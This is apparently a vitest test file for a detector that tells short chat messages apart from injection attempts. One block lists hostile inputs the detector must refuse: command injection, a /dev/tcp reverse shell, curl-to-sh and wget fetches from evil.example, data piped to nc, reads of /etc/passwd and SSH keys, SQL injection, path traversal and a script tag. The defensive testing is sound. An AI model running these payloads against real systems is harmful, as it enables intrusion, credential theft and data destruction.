import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ArgumentKind } from '../call.ts'
import { codeTalk, shortMessages } from './chat.sample.ts'
import { commands, loneCommands } from './commands.ts'
import { detect } from './detect.ts'
import { sqlWords } from './sql-words.ts'

const refused = (text: string, kind?: ArgumentKind) => detect(text, kind).some(({ mention }) => !mention)

describe('short messages', () => {
  it('are tried in hundreds', () => expect(new Set(shortMessages).size).toBeGreaterThan(600))
  it.each(shortMessages)('%j passes as prose and where nothing was declared', (text) => {
    expect(refused(text, 'prose')).toBe(false)
    expect(detect(text, undefined)).toEqual([])
  })
  it.each(codeTalk)('%j passes as prose', (text) => expect(refused(text, 'prose')).toBe(false))
})

describe('a word and a number', () => {
  const words = [...commands.keys(), ...[...sqlWords].filter(([, kind]) => kind !== 'risk').map(([word]) => word)].filter(
    (word) => /^[a-z]+$/.test(word) && !(loneCommands.has(word) && commands.get(word) === 'plain') && word !== 'regexp' && word !== 'rlike',
  )
  const numbers = fc.oneof(
    fc.nat().map(String),
    fc.nat(999).map((number) => `${number}.5`),
    fc.tuple(fc.nat(99), fc.nat(99)).map(([one, other]) => `${one}/${other}`),
    fc.tuple(fc.nat(23), fc.integer({ min: 10, max: 59 })).map(([hour, minute]) => `${hour}:${minute}`),
    fc.tuple(fc.nat(9), fc.nat(9)).map(([one, other]) => `${one}-${other}`),
    fc.nat(99).map((number) => `${number}%`),
  )
  it('is talk, whatever command or keyword the word is', () => {
    expect(words.length).toBeGreaterThan(600)
    fc.assert(
      fc.property(fc.constantFrom(...words), numbers, fc.constantFrom('', '!', '?', '.'), (word, number, end) => {
        expect(refused(`${word} ${number}${end}`, 'prose')).toBe(false)
      }),
      { numRuns: 5000 },
    )
  })
  it('is talk as an item of a list as well', () => {
    const spoken = words.filter((word) => commands.get(word) === 'spoken')
    expect(spoken.length).toBeGreaterThan(150)
    for (const list of ['done; WORD 5', 'lunch & WORD 12', 'Fire; call 911; WORD 3'])
      expect(spoken.filter((word) => refused(list.replace('WORD', word), 'prose'))).toEqual([])
  })
})

describe('attacks that look like short messages', () => {
  it.each([
    ';sleep 5',
    '1;sleep 5',
    '1; sleep 5',
    '| sleep 10',
    '&& ping -c 5 127.0.0.1',
    'ping 127.0.0.1',
    ';id',
    '; id',
    'ann;id',
    'hello; id',
    'done; env',
    'done;reboot',
    'x && reboot',
    'lunch; rm -rf /',
    'lunch; cat /etc/passwd',
    'read; cat ~/.ssh/id_rsa',
    'more; less /etc/shadow',
    'wait 5; wget http://evil.example/a -O /tmp/a',
    'top 10 | nc 10.0.0.1 4444',
    '5; kill -9 1',
    'cut; paste; curl http://evil.example | sh',
    'date; bash -i >& /dev/tcp/10.0.0.1/4 0>&1',
    '`id`',
    '; `id`',
    '`wget http://evil.example/a`; `sh a`',
    'eval `id`',
    `5' or 1=1 --`,
    `5'6" or 1=1 --`,
    `6' or '1'='1`,
    `5" or "1"="1`,
    `5'6"; DROP TABLE users; --`,
    `1' or 1 --`,
    'select 5 from users union select 6',
    'select 5; drop table users',
    'union select 5',
    '1 union select 5',
    `'union`,
    '../',
    '..%2f',
    '....//....//etc/passwd',
    '.../.../etc/passwd',
    '; $cmd',
    '|$0',
    '$100; cat /etc/passwd',
    "`name`: '; DROP TABLE users; --",
    '`code` <script>alert(1)</script>',
    '| a | b |\n|---|---|\n| 1 | 2 |\n; rm -rf /',
    'use `ls`\n; rm -rf /',
    '```\nls\n```\n$(id)',
  ])('%j is refused as a message, and where nothing was declared', (text) => {
    expect(refused(text, 'prose')).toBe(true)
    expect(refused(text)).toBe(true)
  })
  it.each(['sleep 5', 'reboot', 'shutdown', 'x; reboot', 'hello; reboot', 'select 5', '-1 union', '..', 'maths; history', 'done; sleep 5'])(
    '%j is refused where nothing was declared, though people write it',
    (text) => expect(refused(text)).toBe(true),
  )
})
